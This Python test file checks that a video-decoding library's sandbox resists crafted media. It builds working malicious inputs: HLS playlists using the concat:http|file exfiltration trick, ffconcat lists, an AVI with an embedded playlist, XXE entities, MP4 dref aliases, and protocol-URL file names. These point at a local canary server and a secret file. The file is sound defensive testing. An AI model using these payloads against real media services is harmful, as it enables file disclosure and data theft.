"""Files made to read other files, to call home, or to eat a machine. None gets what it wants.

Disclosure is tried twice: through the pool, where the kernel forbids everything anyway, and on the
bare reader, whose lists of protocols and containers have to hold on systems without that kernel.
"""

import contextlib
import ctypes
import os
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

import av
import pytest
from clips import number_in, picture, render
from PIL import Image

from actionclip.video.decode import DecodePool
from actionclip.video.decode.pyav.reader import read_video
from actionclip.video.outcomes import Outcome
from actionclip.video.settings import Limits, ReadRequest, Sampling
from actionclip.video.sources import Source, find_videos

SECRET = 777
"""The number in every picture of the video that must not be seen."""

REQUEST = ReadRequest(sampling=Sampling(frames=4))


@pytest.fixture(scope="module")
def pool():
    with DecodePool(1) as pool:
        yield pool


# --- what an attacker wants --------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path):
    """A video in a neighbouring folder, and one beside the attacker's file."""
    (tmp_path / "private").mkdir()
    for path in (tmp_path / "private" / "secret.mp4", tmp_path / "secret.mp4"):
        render(path, 8, pictures=lambda _: picture(SECRET))
    (tmp_path / "private" / "secret.txt").write_text("the secret")
    return tmp_path / "private" / "secret.mp4"


class Watch:
    """Notices, as the kernel does, when one of some files is opened. Linux only."""

    OPEN = 0x20

    def __init__(self, paths):
        libc = ctypes.CDLL(None, use_errno=True)
        self._queue = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        assert self._queue >= 0
        for path in paths:
            assert libc.inotify_add_watch(self._queue, os.fsencode(path), self.OPEN) >= 0

    def opened(self):
        try:
            return len(os.read(self._queue, 4096)) > 0
        except BlockingIOError:
            return False

    def close(self):
        os.close(self._queue)


@pytest.fixture
def watch(secret):
    if sys.platform != "linux":
        pytest.skip("only Linux says who opens a file")
    watch = Watch([secret, secret.with_suffix(".txt"), secret.parents[1] / "secret.mp4"])
    yield watch
    watch.close()


@pytest.fixture
def canary():
    """A web server that nobody may call: its address, and a list of those who did."""
    calls = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def wait():
            while True:
                try:
                    end, address = server.accept()
                except OSError:
                    return
                calls.append(address)
                end.close()

        thread = threading.Thread(target=wait)
        thread.start()
        yield f"127.0.0.1:{server.getsockname()[1]}", calls
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_the_traps_do_spring(secret, watch, canary):
    """Otherwise the tests below would prove nothing."""
    assert not watch.opened()
    with av.open(str(secret)) as container:
        seen = number_in(next(container.decode(video=0)).to_ndarray(format="rgb24"))
    assert seen == SECRET
    assert watch.opened()

    address, calls = canary
    with pytest.raises(av.error.FFmpegError):
        av.open(f"http://{address}/a.mp4", timeout=5)
    assert calls


# --- files that name other files -----------------------------------------------------------------


def box(kind, content=b""):
    return struct.pack(">I", 8 + len(content)) + kind + content


def chunk(kind, content):
    return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def concat_list(folder, secret, _):
    return f"ffconcat version 1.0\nfile '{secret}'\n".encode()


def concat_list_of_a_neighbour(folder, secret, _):
    return b"ffconcat version 1.0\nfile secret.mp4\n"


def concat_list_with_options(folder, secret, _):
    return f"ffconcat version 1.0\nfile '{secret}'\noption protocol_whitelist file\n".encode()


def playlist_of_a_file(folder, secret, _):
    return (
        f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://{secret}\n#EXT-X-ENDLIST\n".encode()
    )


def playlist_of_a_neighbour(folder, secret, _):
    return b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nsecret.mp4\n#EXT-X-ENDLIST\n"


def playlist_of_an_address(folder, _, address):
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://{address}/a.ts\n".encode()


def playlist_with_a_key(folder, secret, address):
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="http://{address}/key"\n'
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n{key}#EXTINF:9,\n{secret}\n".encode()


def playlist_that_sends_a_file(folder, secret, address):
    """Reads the first line of a file as the end of an address: the attack of 2016."""
    return (
        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n"
        f"concat:http://{address}/x?|file://{secret}\n#EXT-X-ENDLIST\n"
    ).encode()


def playlist_inside_avi(folder, secret, address):
    """As the subtitles of an AVI file, which FFmpeg opens like a file of their own."""
    playlist = playlist_that_sends_a_file(folder, secret, address)
    subtitles = b"GAB2\0" + struct.pack("<HIHI", 2, 0, 4, len(playlist)) + playlist
    header = struct.pack("<14I", 40_000, 0, 0, 0x10, 1, 0, 1, 0, 96, 64, 0, 0, 0, 0)
    stream = b"txts" + bytes(4) + struct.pack("<10I", 0, 0, 0, 1, 25, 0, 1, 0, 0, 0) + bytes(8)
    streams = chunk(b"LIST", b"strl" + chunk(b"strh", stream) + chunk(b"strf", bytes(40)))
    hdrl = chunk(b"LIST", b"hdrl" + chunk(b"avih", header) + streams)
    return chunk(b"RIFF", b"AVI " + hdrl + chunk(b"LIST", b"movi" + chunk(b"00tx", subtitles)))


def session_description(folder, _, address):
    host, port = address.split(":")
    return (
        f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\n"
        f"m=video {port} RTP/AVP/TCP 96\na=rtpmap:96 H264/90000\n"
    ).encode()


def dash_manifest(folder, secret, address):
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-main:2011">'
        f"<Period><AdaptationSet><Representation id='1' mimeType='video/mp4' bandwidth='1'>"
        f"<BaseURL>http://{address}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def smil_like_xml(folder, secret, address):
    return (
        f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}"><!ENTITY h SYSTEM "http://{address}/">]>'
        "<x>&s;&h;</x>"
    ).encode()


def movie_of_another_files_pictures(folder, secret, _):
    """An MP4 whose pictures are said to lie in another file (an alias in its `dref` box)."""
    data = render(folder / "own.mp4", 8).read_bytes()
    name = secret.name.encode()
    alias = bytes(10) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    alias += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    alias += struct.pack(">hh", 1, 1) + bytes(16)
    path = os.fsencode(secret)
    alias += struct.pack(">HH", 2, len(path)) + path + bytes(len(path) % 2)
    alias += struct.pack(">hH", -1, 0)
    old = box(b"url ", b"\0\0\0\1")
    new = box(b"alis", b"\0\0\0\0" + alias)
    assert len(new) > 150
    place = data.index(old)
    grown = bytearray(data[:place] + new + data[place + len(old) :])
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        start = grown.index(kind) - 4
        (size,) = struct.unpack_from(">I", grown, start)
        struct.pack_into(">I", grown, start, size + len(new) - len(old))
    return bytes(grown)


FILES = [
    concat_list,
    concat_list_of_a_neighbour,
    concat_list_with_options,
    playlist_of_a_file,
    playlist_of_a_neighbour,
    playlist_of_an_address,
    playlist_with_a_key,
    playlist_that_sends_a_file,
    playlist_inside_avi,
    session_description,
    dash_manifest,
    smil_like_xml,
    movie_of_another_files_pictures,
]


def bare(source, request):
    """The reader without worker and sandbox."""
    file = os.open(source.path, os.O_RDONLY)
    try:
        return read_video(file, request, Limits())
    finally:
        os.close(file)


@pytest.mark.parametrize(
    "make",
    [concat_list, playlist_of_a_file, playlist_of_an_address, movie_of_another_files_pictures],
    ids=lambda make: make.__name__,
)
def test_a_careless_program_falls_for_it(make, tmp_path, secret, watch, canary):
    """The attacks are real: FFmpeg told to allow everything opens the file or makes the call."""
    address, calls = canary
    path = tmp_path / "upload.m3u8"
    path.write_bytes(make(tmp_path, secret, address))
    careless = {
        "safe": "0",
        "allowed_extensions": "ALL",
        "extension_picky": "0",
        "protocol_whitelist": "file,http,tcp,crypto,data",
        "enable_drefs": "1",
        "use_absolute_path": "1",
    }
    assert not watch.opened()
    with (
        contextlib.suppress(av.error.FFmpegError),
        av.open(str(path), options=careless, timeout=1) as container,
    ):
        next(container.decode(video=0))

    assert calls if make is playlist_of_an_address else watch.opened()


@pytest.mark.parametrize("way", ["pool", "bare"])
@pytest.mark.parametrize("make", FILES, ids=lambda make: make.__name__)
def test_a_file_reads_nothing_but_itself(make, way, pool, tmp_path, secret, watch, canary):
    address, calls = canary
    path = tmp_path / "upload.mp4"
    path.write_bytes(make(tmp_path, secret, address))

    clip = (pool.read if way == "pool" else bare)(Source("upload.mp4", path), REQUEST)

    assert not watch.opened()
    assert calls == []
    if clip.frames is None:
        assert clip.status in (Outcome.UNREADABLE, Outcome.NO_VIDEO, Outcome.EMPTY)
    else:
        assert SECRET not in [number_in(frame) for frame in clip.frames]
    assert "the secret" not in clip.message


@pytest.mark.parametrize(
    "name",
    [
        "http://{address}/a.mp4",
        "https://{address}/a.mp4",
        "tcp://{address}",
        "rtsp://{address}/a",
        "rtmp://{address}/a",
        "ftp://{address}/a.mp4",
        "hls+http://{address}/a.m3u8",
        "file:{secret}",
        "file://{secret}",
        "concat:{secret}|{secret}",
        "concatf:{secret}",
        "subfile,,start,0,end,0,,:{secret}",
        "async:{secret}",
        "cache:{secret}",
        "crypto:{secret}",
        "tee:{secret}",
        "data:video/mp4;base64,AAAA",
        "pipe:0",
        "fd:0",
        "unix:{secret}",
        "lavfi:testsrc",
        "-",
        "%d.png",
        "private/../private/nothing\0.mp4",
    ],
)
def test_a_name_is_a_name_and_never_an_address(
    name, pool, tmp_path, secret, watch, canary, monkeypatch
):
    address, calls = canary
    monkeypatch.chdir(tmp_path)
    name = name.format(address=address, secret=secret)

    clip = pool.read(Source(name, Path(name)), REQUEST)

    assert clip.status is Outcome.UNREADABLE
    assert clip.message
    assert clip.hint
    assert not watch.opened()
    assert calls == []


def test_addresses_stay_names_when_inputs_are_expanded(pool, tmp_path, canary, monkeypatch):
    address, calls = canary
    monkeypatch.chdir(tmp_path)
    (tmp_path / "list.txt").write_text(f"http://{address}/a.mp4\nconcat:a|b\n")

    clips = list(pool.read_all(find_videos([f"http://{address}/b.mp4", "list.txt"]), REQUEST))

    assert [clip.status for clip in clips] == [Outcome.UNREADABLE] * 3
    assert calls == []


def test_a_frame_that_is_a_link_out_of_its_folder_is_not_followed(pool, tmp_path):
    Image.fromarray(picture(SECRET)).save(tmp_path / "secret.png")
    frames = tmp_path / "frames"
    frames.mkdir()
    for i in range(4):
        Image.fromarray(picture(i)).save(frames / f"{i}.png")
    (frames / "link.png").symlink_to(frames / "0.png")
    assert pool.read(Source("frames", frames, "frames"), REQUEST).status is Outcome.OK
    (frames / "2.png").unlink()
    (frames / "2.png").symlink_to(tmp_path / "secret.png")

    clip = pool.read(Source("frames", frames, "frames"), REQUEST)

    assert clip.status is Outcome.UNREADABLE
    assert "2.png" in clip.message
    assert "out of" in clip.message


def test_the_parent_opens_the_path_given_and_no_other(tmp_path, secret):
    """What Python opens is told to an audit hook; it cannot be removed, so a script tries it."""
    code = """
import os, sys
from pathlib import Path
from actionclip.video.decode import DecodePool
from actionclip.video.sources import Source
pool = DecodePool(1)
pool.read(Source("warm", Path(sys.argv[1])))
opened = []
def note(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        opened.append(os.fsdecode(arguments[0]))
sys.addaudithook(note)
pool.read(Source("v", Path(sys.argv[1])))
print(opened)
assert opened == [os.path.realpath(sys.argv[1])], opened
"""
    path = tmp_path / "upload.mp4"
    path.write_bytes(concat_list(tmp_path, secret, ""))
    done = subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
